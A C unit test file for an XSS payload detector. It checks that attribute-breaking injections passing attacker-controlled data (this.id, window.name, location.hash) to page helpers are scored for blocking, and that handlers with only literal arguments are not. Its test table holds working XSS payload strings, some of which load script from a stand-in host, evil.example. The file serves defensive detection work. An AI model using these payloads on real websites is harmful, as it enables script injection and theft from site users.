/* test_payload_r10b.c - issue 21, review of the tenth round's merge (b):
 * a handler injected after an attribute break that calls a page helper
 * is told at 55 only when its arguments are literals; arguments that
 * read what the injector sets (window.name, the element's own
 * attributes this.id / this.dataset.u, location, document) make it the
 * attack it is and keep the kill. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS

static void test_page_call_reading_injected_data(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"\" onfocus=\"loadScript(this.id)\" autofocus id=\"//evil.example/x.js\" x=\"", X},
		{"\" onmouseover=\"loadScript(this.id)\" id=\"//evil.example/x.js\" x=\"", X},
		{"' onmouseover='loadScript(this.id)' id='//evil.example/x.js", X},
		{"\" autofocus onfocus=\"render(this.title)\" title=\"payload\" x=\"", X},
		{"\" onfocus=\"loadScript(name)\" autofocus x=\"", X},
		{"\" onfocus=\"loadScript(window.name)\" autofocus x=\"", X},
		{"\" onfocus=\"go(location.hash)\" autofocus x=\"", X},
		{"\" onfocus=\"loadScript(globalThis.name)\" autofocus x=\"", X},
		{"\" onfocus=\"render(event.target.title)\" autofocus title=\"p\" x=\"", X},
	};
	rt_run_kill("page call reading injected data", X, t, sizeof(t) / sizeof(t[0]));
}

/* literal arguments, the element itself, an object literal's key: still
 * told, not killed (the round's reading) */
static void test_page_call_literals_told(void **st)
{
	(void)st;
	static const char *const told[] = {"\" onclick=\"toggleMenu(); return false;\" x=\"",
					   "\"onmouseover=\"showTip(this)\"x=\"",
					   "\" onfocus=\"track({name: 'x'})\" autofocus x=\""};
	rt_below_kill("page call literals", told, sizeof(told) / sizeof(told[0]));
	for (size_t i = 0; i < sizeof(told) / sizeof(told[0]); i++)
		assert_true(rt_best(told[i], 0, PAYLOAD__COUNT) >= 50);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_page_call_reading_injected_data),
		cmocka_unit_test(test_page_call_literals_told),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
